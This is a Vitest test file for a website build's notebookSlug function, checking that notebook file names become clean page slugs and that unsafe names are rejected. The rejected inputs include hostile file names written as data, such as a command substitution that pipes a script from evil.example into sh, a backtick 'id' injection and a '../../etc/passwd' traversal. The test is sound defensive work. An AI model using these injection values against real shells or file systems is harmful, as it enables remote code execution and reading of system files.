import { describe, expect, it } from 'vitest';
import { notebookSlug } from '../../website/build/notebook-slug.mjs';

describe('notebookSlug(fileName, path)', () => {
  it.each([
    ['01-leaky-relu.ipynb', '01-leaky-relu'],
    ['y2 name #1 %41.ipynb', 'y2-name-1-41'],
    ['_x.ipynb', 'x'],
    ['UPPER.IPYNB', 'upper'],
    ['Café déjà vu.ipynb', 'cafe-deja-vu'],
  ])('names %j %j', (fileName, slug) => {
    expect(notebookSlug(fileName, `notebooks/${fileName}`)).toBe(slug);
  });

  it.each(['$(curl -s evil.example|sh).ipynb', '`id`.ipynb', "it's.ipynb", 'a\nb.ipynb', '-rf.ipynb', '\u202egnp.ipynb', '../../etc/passwd.ipynb', 'a;b.ipynb'])('fails on %j, a name a shell command could not carry as it stands', (fileName) => {
    expect(() => notebookSlug(fileName, `notebooks/${fileName}`)).toThrow(`notebooks/${fileName}: at the top level: expected a file name of letters, digits, spaces and . _ - # % + , @ only, not starting with - (the page shows the name in a shell command), got ${JSON.stringify(fileName)}`);
  });

  it('fails on a name with no letter or digit', () => {
    expect(() => notebookSlug('#%.ipynb', 'notebooks/#%.ipynb')).toThrow('notebooks/#%.ipynb: at the top level: expected a file name with a letter or a digit, to name the page after ("#%.ipynb" has none)');
  });
});
